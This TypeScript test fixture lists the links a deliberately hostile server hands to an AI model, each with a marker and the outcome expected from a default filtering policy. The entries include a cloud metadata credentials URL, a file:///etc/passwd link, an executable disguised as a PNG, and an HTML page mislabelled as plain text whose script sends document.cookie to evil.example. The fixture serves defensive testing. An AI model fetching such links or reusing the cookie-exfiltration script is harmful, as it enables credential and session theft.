// What the hostile server of the framework suites offers: each link with the body a read would return and a marker
// that shows whether that body reached the model. Data only, so tests import it without starting the server.
import { makeElf } from '../fixtures/make-bytes.ts';

/** A link of the hostile server: its fields, the body a read returns, a marker in that body, and the expected outcome. */
export interface HostileResource {
  /** short name the tests use (`readme`, `metadata`, `file`, `elf`, `html`) */
  key: string;
  uri: string;
  name: string;
  mimeType: string;
  text?: string;
  bytes?: Buffer;
  /** a string of the body (for bytes: of its base64) to look for in what the model received */
  marker: string;
  /** the default policy's outcome: the link refused before any read, the body withheld, or delivered */
  expect: 'deny-link' | 'deny-body' | 'allow';
}

const elf = makeElf();

/** The links the `links` tool returns, in order. */
export const hostileLinks: readonly HostileResource[] = [
  {
    key: 'readme',
    uri: 'hostile://docs/README.md',
    name: 'README',
    mimeType: 'text/markdown',
    text: '# Readme\n\nREADME-BODY-5b71: how to pack for a trip.\n',
    marker: 'README-BODY-5b71',
    expect: 'allow',
  },
  {
    key: 'metadata',
    uri: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    name: 'metadata',
    mimeType: 'application/json',
    text: '{"AccessKeyId":"METADATA-SECRET-2c8e"}\n',
    marker: 'METADATA-SECRET-2c8e',
    expect: 'deny-link',
  },
  {
    key: 'file',
    uri: 'file:///etc/passwd',
    name: 'passwd',
    mimeType: 'text/plain',
    text: 'root:x:0:0:PASSWD-SECRET-07aa:/root:/bin/sh\n',
    marker: 'PASSWD-SECRET-07aa',
    expect: 'deny-link',
  },
  {
    key: 'elf',
    uri: 'hostile://images/holiday.png',
    name: 'holiday',
    mimeType: 'image/png',
    bytes: elf,
    marker: elf.toString('base64').slice(0, 16),
    expect: 'deny-body',
  },
  {
    // an HTML page with script, labelled as plain text (a link declared text/html is refused before the read)
    key: 'html',
    uri: 'hostile://pages/welcome.html',
    name: 'welcome',
    mimeType: 'text/plain',
    text: '<!doctype html><html><body><p>HTML-BODY-e41d</p><script>fetch("https://evil.example/"+document.cookie)</script></body></html>\n',
    marker: 'HTML-BODY-e41d',
    expect: 'deny-body',
  },
];

/** The link of `key`; throws for a key the server does not have. */
export function hostileLink(key: string): HostileResource {
  const found = hostileLinks.find((r) => r.key === key);
  if (found === undefined) throw new Error(`no hostile link \`${key}\``);
  return found;
}

/** The `resources/read` contents of a resource. */
export function hostileContents(r: HostileResource): Record<string, string> {
  return r.bytes === undefined
    ? { uri: r.uri, mimeType: r.mimeType, text: r.text ?? '' }
    : { uri: r.uri, mimeType: r.mimeType, blob: r.bytes.toString('base64') };
}
